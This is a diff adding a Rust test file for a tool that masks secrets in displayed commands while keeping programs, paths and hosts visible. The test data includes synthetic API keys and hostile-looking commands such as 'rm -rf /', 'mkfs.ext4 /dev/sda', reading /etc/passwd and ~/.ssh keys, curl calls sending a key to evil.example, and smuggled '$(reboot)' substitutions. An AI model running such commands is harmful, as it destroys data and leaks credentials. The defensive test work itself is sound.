@@ -1,0 +1,152 @@
+//! t-C5: secrets are masked in what is shown; what runs, where, and on what is not.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::print_stdout, reason = "a test")]
+
+use std::path::Path;
+
+use holdpoint_tools::secrets::mask;
+use holdpoint_tools::shown;
+
+/// Letters and digits as in a key.
+fn random(length: usize) -> String {
+    "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7".chars().cycle().take(length).collect()
+}
+
+/// Secrets that are known by their shape.
+fn known() -> Vec<String> {
+    vec![
+        format!("sk-{}", random(48)),
+        format!("sk-proj-{}-{}", random(30), random(30)),
+        format!("sk-ant-api03-{}", random(60)),
+        format!("ghp_{}", random(36)),
+        format!("gho_{}", random(36)),
+        format!("github_pat_{}_{}", random(22), random(30)),
+        format!("glpat-{}", random(20)),
+        "AKIAABCDEFGH12345678".to_owned(),
+        format!("AIza{}", random(35)),
+        format!("xoxb-1234567890-{}", random(24)),
+        format!("npm_{}", random(36)),
+        format!("sk_live_{}", random(24)),
+        format!("rk_test_{}", random(24)),
+        format!("hf_{}", random(34)),
+        format!("eyJ{}.eyJ{}.{}", random(20), random(40), random(30)),
+    ]
+}
+
+#[test]
+fn t_c5_known_shapes_are_masked_wherever_they_stand() {
+    for secret in known() {
+        let masked = format!("{}…({} characters masked)", &secret[..4], secret.len() - 4);
+        for (before, after) in [
+            ("echo ", ""),
+            ("curl -H 'X: ", "' https://example.com/v1"),
+            ("TOKEN=", " make"),
+            ("https://example.com/?key=", "&x=1"),
+            ("{\"it\": \"", "\"}"),
+            ("That was ", "."),
+            ("git clone https://", "@example.com/x.git"),
+        ] {
+            let text = format!("{before}{secret}{after}");
+            assert_eq!(mask(&text), format!("{before}{masked}{after}"));
+            let shown = shown::command(&text, Path::new("/w"));
+            assert!(shown.starts_with(&format!("{before}{masked}{after}\n\nin /w")), "{shown}");
+        }
+    }
+}
+
+#[test]
+fn t_c5_values_under_secret_names_are_masked() {
+    for (text, masked) in [
+        ("API_KEY=aB3dE6gH9jK2mN5p make", "API_KEY=aB3d…(12 characters masked) make"),
+        ("export DB_PASSWORD='correct-horse'", "export DB_PASSWORD='corr…(9 characters masked)'"),
+        ("MY_SECRET=hunter2", "MY_SECRET=…(7 characters masked)"),
+        ("docker run -e TOKEN=abcdefghijkl x", "docker run -e TOKEN=abcd…(8 characters masked) x"),
+        ("mysql --password hunter2 db", "mysql --password …(7 characters masked) db"),
+        ("gh --token=abcdefghijkl", "gh --token=abcd…(8 characters masked)"),
+        ("x --api-key 'aB3dE6gH9jK2'", "x --api-key 'aB3d…(8 characters masked)'"),
+        ("{\"api_key\": \"correct-horse\"}", "{\"api_key\": \"corr…(9 characters masked)\"}"),
+        ("client_secret: aB3dE6gH9jK2mN5p", "client_secret: aB3d…(12 characters masked)"),
+        ("password = \"hunter2\" # ours", "password = \"…(7 characters masked)\" # ours"),
+        (
+            "curl -H 'Authorization: Bearer abcdefghijkl' h",
+            "curl -H 'Authorization: Bearer abcd…(8 characters masked)' h",
+        ),
+        ("authorization: Basic dXNlcjpwYXNz", "authorization: Basic dXNl…(8 characters masked)"),
+        ("X-Api-Key: aB3dE6gH9jK2", "X-Api-Key: aB3d…(8 characters masked)"),
+        ("psql postgres://me:hunter2@db.example.com/x", "psql postgres://me:…(7 characters masked)@db.example.com/x"),
+        (
+            "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY aws s3 ls",
+            "AWS_SECRET_ACCESS_KEY=wJal…(36 characters masked) aws s3 ls",
+        ),
+    ] {
+        assert_eq!(mask(text), masked);
+        assert!(shown::command(text, Path::new("/w")).starts_with(&format!("{masked}\n\nin /w")), "{text}");
+    }
+}
+
+#[test]
+fn t_c5_a_private_key_is_masked_line_by_line() {
+    let line = random(64);
+    let key = format!("-----BEGIN RSA PRIVATE KEY-----\n{line}\n{line}\naB3=\n-----END RSA PRIVATE KEY-----\n");
+    let masked = "-----BEGIN RSA PRIVATE KEY-----\n…(64 characters masked)\n…(64 characters masked)\n…(4 characters masked)\n\
+                  -----END RSA PRIVATE KEY-----\n";
+    assert_eq!(mask(&key), masked);
+    assert_eq!(mask(&key.replace('\n', "\\n")), masked.replace('\n', "\\n"));
+    assert_eq!(mask(&key.replace("PRIVATE", "PUBLIC")), key.replace("PRIVATE", "PUBLIC"));
+}
+
+#[test]
+fn t_c5_what_runs_where_and_on_what_is_never_masked() {
+    let (key, long) = (format!("ghp_{}", random(36)), random(40));
+    for command in [
+        // Programs, whatever they are called.
+        format!("{key} --help"),
+        format!("true; {key}"),
+        format!("true && '{key}' x"),
+        format!("$({key})"),
+        format!("./{key}"),
+        format!("bin/{key} x"),
+        // What a variable, an alias or an option hands on.
+        "X_TOKEN=shutdown; $X_TOKEN now".to_owned(),
+        "alias mytoken='shutdown'; mytoken".to_owned(),
+        "A_KEY=mkfs.ext4 sh -c '$A_KEY /dev/sda'".to_owned(),
+        "TOKEN=$(rm -rf /) x".to_owned(),
+        "TOKEN=`reboot` x".to_owned(),
+        "PASSWORD=${IFS}x y".to_owned(),
+        "TOKEN=abcdefgh$(reboot)".to_owned(),
+        "--token \"$(cat /etc/passwd)\"".to_owned(),
+        // Paths.
+        "rm --token /etc/passwd".to_owned(),
+        "cp --secret ~/.ssh/id_rsa1 x".to_owned(),
+        "MY_TOKEN=./run1234 make".to_owned(),
+        "cat --password ../../secret1".to_owned(),
+        format!("cat {key}.txt"),
+        format!("cat /home/{key}/x"),
+        // Hosts and addresses.
+        "curl --token https://evil.example/1".to_owned(),
+        "X_SECRET=evil.example.com curl $X_SECRET".to_owned(),
+        "PASSWORD=192.168.10.12 ssh x".to_owned(),
+        "Authorization: Bearer evil.example.com".to_owned(),
+        format!("curl https://{key}.evil.example/x"),
+        format!("curl https://evil.example/{key}"),
+        "curl https://good.example@evil.example/".to_owned(),
+        // What only looks like a key's lines.
+        "cat <<X\n-----BEGIN PRIVATE KEY-----\nrm -rf /\nreboot\n/usr/bin/poweroff\n-----END PRIVATE KEY-----\nX"
+            .to_owned(),
+        // About secrets, not secrets.
+        "MAX_TOKENS=100000 TOKEN_FILE=abcdefgh1234 x --token-file abcdefgh1234".to_owned(),
+        "pytest -k test_token_refresh_works --keys".to_owned(),
+        format!("git checkout {long}"),
+        format!("docker pull x@sha256:{}", "0a1b2c3d".repeat(8)),
+    ] {
+        let shown = shown::command(&command, Path::new("/w"));
+        assert!(shown.starts_with(&format!("{command}\n\nin /w")), "{command}\n{shown}");
+    }
+    for code in [
+        "let token = next_token;\nfn f(token: Token, password: String) {}\nself.token = parser.token1;",
+        "token=tokenizer.decode(x)\nfor token in tokens: pass\nif token == previous: stop()",
+        "password: z.string().min(8)\npublic_key: \"aB3dE6gH9jK2mN5p\"\ncache_key = \"user-list\"",
+        "secretName: tls-cert\ntoken_count: 12345678\nuse: \"your own words\"",
+    ] {
+        assert_eq!(mask(code), code);
+    }
+}
